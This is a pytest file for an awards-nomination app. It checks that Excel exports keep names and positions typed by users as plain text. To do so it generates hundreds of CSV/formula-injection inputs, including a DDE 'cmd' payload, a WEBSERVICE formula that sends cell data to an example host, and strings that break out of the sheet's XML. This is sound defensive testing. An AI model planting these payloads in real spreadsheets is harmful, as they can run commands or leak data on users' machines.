"""E1 of trust.md: what people typed comes out of a spreadsheet as it was, and runs nowhere.

Beginnings are those that spreadsheets act upon; XlsxWriter has one more, its markup for rich text.
"""

import io
import re
import zipfile
from itertools import product

import pytest
from lxml import etree
from python_calamine import CalamineWorkbook
from sqlalchemy import select

from awards import exports, sheets
from models.awards import Nomination
from models.exports import ExportKind
from tests import factories
from tests.conftest import NOW
from tests.trust.sizes import on_sqlite_at_least

pytestmark = pytest.mark.trust
STARTS = (
    *("=", "+", "-", "@", "\t", "\r", "\n", "\0", "|", "%", "'", '"', ",", ";", "\\"),
    *("＝", "＋", "－", "＠", "﹦", "﹢", "﹣", "﹫", "−", "\u200b=", "\ufeff=", "\u00a0="),
    *(
        " =",
        "  +",
        "'=",
        '"=',
        '",=',
        "';=",
        "\r\n=",
        "\n\n+",
        "\t=",
        "<r>",
        "_x003D_",
        "{=",
    ),
)
BODIES = (
    "1+1",
    "cmd|'/C calc'!A0",
    'HYPERLINK("http://a.example","Bấm")',
    'WEBSERVICE("http://a.example/"&A1)',
    "SUM(A1:A9)*2</r>",
    "<t>x</t></r>",
    "</t></is></c><c><f>1+1</f></c>",
    "http://a.example/",
    "2026-11-28",
    "0123456789",
)
VALUES = [start + body for start, body in product(STARTS, BODIES)]
VALUES += ["<r><t>x</t></r>", "<r><f>1+1</f></r>", "TRUE", "1e5", "mailto:a@a.example"]
VALUES += ["internal:Sheet1!A1", "{=1}", "  hai đầu  ", "_x0041_", "a\0b\x01\x0bc", "𝟭=1"]
FIELDS = {"Tên cá nhân, tập thể, hộ gia đình": "name", "Chức vụ": "position"}
MAIN = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"


@pytest.fixture
def values(db, size):
    """All, or some with each beginning and each body; PostgreSQL keeps no NUL."""
    some = VALUES if size(10) == 10 else VALUES[:: len(BODIES) - 1]
    is_sqlite = db.get_bind().dialect.name == "sqlite"
    return [text for text in some if is_sqlite or "\0" not in text]


def faults(db, values):
    """Nominees of these names, exported; what comes back otherwise, and what is no plain text."""
    for value in values:
        nominee = factories.begin(db, has_papers=False).nominee
        for field in FIELDS.values():
            setattr(nominee, field, value)
    db.flush()
    clerk = factories.actor(db, "department_clerk")
    asked = {"movement": "all", "sort": "code"}
    file = exports.make(db, ExportKind.NOMINATIONS, asked, actor=clerk, now=NOW)
    assert file.rows == len(values)
    head, *rows = read(file.content)
    return [
        *active(file.content),
        *(
            f"{value!r} came back as {row[head.index(title)]!r}"
            for value, row in zip(values, rows, strict=True)
            for title in FIELDS
            if row[head.index(title)] != value
        ),
    ]


def read(content):
    book = CalamineWorkbook.from_filelike(io.BytesIO(content))
    return book.get_sheet_by_index(0).to_python(skip_empty_area=False)


def active(content):
    """Formulas and links in the raw parts, and texts that are kept as anything but strings."""
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        odd = re.compile("externalLink|vbaProject|sheet1.xml.rels")
        found = [name for name in archive.namelist() if odd.search(name)]
        sheet = etree.fromstring(archive.read("xl/worksheets/sheet1.xml"))
    found += [f"<{e.tag}>" for e in sheet.iter(f"{MAIN}f", f"{MAIN}hyperlink")]
    texts = {"C", "F"}  # where the name and the post stand
    return found + [
        f"{cell.get('r')} is of type {cell.get('t')}"
        for cell in sheet.iter(f"{MAIN}c")
        if cell.get("r").rstrip("0123456789") in texts and cell.get("t") != "inlineStr"
    ]


@on_sqlite_at_least
def test_what_was_typed_comes_back_as_text(db, values):
    assert {value[0] for value in values} >= set("=+-@\t\r\n＝")
    assert faults(db, values) == []


def test_there_are_enough_values():
    assert len(set(VALUES)) >= 400


def guess(page, row, column, text, style):
    """A writer that guesses what a text is meant to be."""
    page.sheet.write(row, column, text, style)


def trust_the_library(page, row, column, text, style):
    """A writer that does not know what its library takes for markup."""
    page.sheet.write_string(row, column, text, style)


@pytest.mark.parametrize("databases", ["sqlite"], indirect=True)
@pytest.mark.parametrize("value", ["=1+1", "http://a.example/", "<r><t>x</t></r>"])
def test_control_a_careless_writer_is_caught(db, monkeypatch, value):
    options = {"strings_to_formulas": True, "strings_to_urls": True}
    monkeypatch.setattr(sheets, "_OPTIONS", sheets._OPTIONS | options)
    careless = trust_the_library if value.startswith("<r>") else guess
    monkeypatch.setattr(sheets._Page, "_put_text", careless)

    assert faults(db, [value]) != []


@pytest.mark.parametrize("databases", ["sqlite"], indirect=True)
def test_dates_and_numbers_are_no_texts(db):
    nomination = factories.begin_at(db, "appraise")
    clerk = factories.actor(db, "department_clerk")
    file = exports.make(db, ExportKind.BOARD, {"movement": "all"}, actor=clerk, now=NOW)
    head, row = read(file.content)

    assert db.scalars(select(Nomination.code)).all() == [nomination.code]
    due = row[head.index("Hạn")]
    assert (due.hour, due.minute) == (17, 0)  # in Vietnam
    assert row[head.index("Được phép (ngày làm việc)")] == 10.0
    with zipfile.ZipFile(io.BytesIO(file.content)) as archive:
        sheet = etree.fromstring(archive.read("xl/worksheets/sheet1.xml"))
    pane = next(sheet.iter(f"{MAIN}pane"))
    assert (pane.get("ySplit"), pane.get("state")) == ("1", "frozen")
    assert next(sheet.iter(f"{MAIN}autoFilter")).get("ref") == "A1:N2"
